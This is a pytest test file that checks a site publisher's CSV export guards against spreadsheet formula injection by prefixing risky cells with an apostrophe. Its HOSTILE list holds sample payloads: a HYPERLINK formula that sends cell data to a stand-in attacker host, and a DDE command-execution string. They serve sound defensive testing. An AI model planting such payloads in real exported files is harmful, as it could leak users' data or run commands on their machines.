"""Data downloads (reportdata.py): reports.csv opens in a spreadsheet without running formulas
(issue 12, item 8), read back with Python's csv module."""
from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from conftest import nit_definitions, copy_project, report_text, write_tree
from publisher.assemble import assemble
from publisher.config import SiteConfig
from publisher.load import load_reports
from publisher.pipeline import Paths, build
from publisher.reportdata import csv_text, reports_csv, reports_json

DEFINITIONS = nit_definitions()
CONFIG = SiteConfig(base_url="/", url="https://example.org")
RATINGS = {c.key: 3.0 for c in DEFINITIONS.categories}
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\tTabland", "\rReturnland"]


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_evaluate_gets_an_apostrophe(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Kazakhstan", "Côte d'Ivoire", "'quoted", " =leading space",
                                  "A=B", "", "https://example.org/countries/k/2015/"])
def test_other_text_is_left_alone(text):
    assert csv_text(text) == text


def one_report(tmp_path: Path):
    write_tree(tmp_path / "content", {"reports/k/2015.md": report_text("K", 2015, RATINGS)})
    sources, _ = load_reports(tmp_path / "content", DEFINITIONS)
    reports, _ = assemble(sources, DEFINITIONS)
    return reports[0]


def test_every_text_cell_is_neutralised_and_numbers_stay_numbers(tmp_path):
    base = one_report(tmp_path)
    reports = []
    for n, text in enumerate(HOSTILE):
        status = replace(base.status, name=text)  # any text cell: the status names too
        negative = replace(base.category_ratings[0], rating=Decimal("-0.25"))
        reports.append(replace(base, category_ratings=(negative, *base.category_ratings[1:]),
                               source=replace(base.source, country=text, status=status,
                                              edition=2000 + n)))
    rows = csv_rows(reports_csv(tuple(reports), CONFIG, DEFINITIONS))
    first_category = DEFINITIONS.categories[0].key
    for row, text in zip(rows, HOSTILE):
        assert row["country"] == "'" + text and row["status"] == "'" + text
        assert row[first_category] == "-0.25"  # a number, never prefixed
        assert row["democracy_score"] == "3.00"
    # the JSON download is data, not a spreadsheet: it keeps the text as it is
    assert [r["country"] for r in json.loads(reports_json(tuple(reports), CONFIG, DEFINITIONS))] == HOSTILE


def test_a_built_site_neutralises_countries_from_the_content(tmp_path):
    names = {"eq": '"=1+2"', "plus": '"+Plusland"', "minus": "-Minusland", "at": '"@Atland"'}
    project = copy_project(tmp_path / "project")
    write_tree(project / "content", {f"reports/{slug}/2015.md": report_text(name, 2015, RATINGS)
                                     for slug, name in names.items()})
    build(Paths.at(project), project / "site", search=False)
    rows = csv_rows((project / "site/data/reports.csv").read_bytes())
    assert sorted(row["country"] for row in rows) == ["'+Plusland", "'-Minusland", "'=1+2", "'@Atland"]
    assert all(row["url"].startswith("/countries/") or row["url"].startswith("http")
               for row in rows)
    countries = [r["country"] for r in json.loads((project / "site/data/reports.json").read_text())]
    assert sorted(countries) == ["+Plusland", "-Minusland", "=1+2", "@Atland"]
    # and the Data page tells the reader
    note = BeautifulSoup((project / "site/data/index.html").read_text(), "html.parser").find(id="spreadsheets")
    assert "apostrophe" in note.get_text() and "formula" in note.get_text()


def test_a_carriage_return_inside_a_cell_keeps_the_row_whole(tmp_path):
    base = one_report(tmp_path)
    reports = (replace(base, source=replace(base.source, country="Line\rbreak, \"quoted\"\nland")),
               replace(base, source=replace(base.source, edition=2016)))
    rows = csv_rows(reports_csv(reports, CONFIG, DEFINITIONS))
    assert [row["country"] for row in rows] == ["Line\rbreak, \"quoted\"\nland", "K"]
    assert rows[0]["democracy_score"] == rows[1]["democracy_score"] == "3.00"
